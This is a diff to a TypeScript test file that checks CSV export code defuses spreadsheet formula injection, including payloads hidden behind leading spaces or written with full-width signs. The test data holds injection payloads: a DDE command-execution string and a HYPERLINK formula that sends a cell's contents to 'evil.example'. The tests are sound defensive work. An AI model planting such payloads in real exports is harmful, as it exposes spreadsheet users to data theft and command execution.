@@ -43,7 +43,7 @@ function readCsv(text: string, sep: string): string[][] {
   return rows;
 }
 
-const FORMULA = /^[=+\-@\t\r]/;
+const FORMULA = /^(?:[\t\r]|\s*[=+\-@＝＋－＠])/;
 
 describe('csvCell', () => {
   it('quotes every cell and doubles quotes (RFC 4180)', () => {
@@ -62,6 +62,20 @@ describe('csvCell', () => {
     expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
     expect(csvCell('\t=1')).toBe(`"'\t=1"`);
     expect(csvCell('=cmd|"/c calc"!A1')).toBe(`"'=cmd|""/c calc""!A1"`);
+  });
+
+  it('defuses a formula behind leading spaces (also no-break and ideographic ones) or written with full-width signs', () => {
+    // Spreadsheets skip leading blanks and read ＝ ＋ － ＠ like their ASCII forms: each of these would run.
+    for (const cell of [' =1+1', '  +44 20', '\u00A0-2', '\u3000@SUM(A1)', ' \t=1', '\uFEFF=1', '＝1+1', '＋44', '－2', '＠SUM(A1)', ' ＝HYPERLINK("x")']) {
+      expect(csvCell(cell), JSON.stringify(cell)).toBe(`"'${cell.replace(/"/g, '""')}"`);
+    }
+    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
+    expect(csvCell('Printer;\u00A0=1+2')).toBe(`"'Printer;\u00A0=1+2"`);
+    expect(csvCell('Printer, ＝1+2')).toBe(`"'Printer, ＝1+2"`);
+    expect(csvCell('first line\n\u3000＠SUM(A1)')).toBe(`"'first line\n\u3000＠SUM(A1)"`);
+    // Ordinary text with those signs inside is left as written.
+    expect(csvCell('Sync － offline')).toBe('"Sync － offline"');
+    expect(csvCell(' Ward 3')).toBe('" Ward 3"');
   });
 
   it('defuses a formula hidden after a separator or a line break', () => {
@@ -104,8 +118,8 @@ describe('issuesToCsv', () => {
       issueWith({
         title: 'Printer;=1+2',
         description: 'Steps:\n=HYPERLINK("http://evil.example/?"&A1,"click")',
-        location: 'Ward 3,+cmd',
-        site: '@North',
+        location: 'Ward 3,\u00A0+cmd',
+        site: ' ＠North',
       }),
     ]);
     for (const sep of [',', ';', '\t']) {
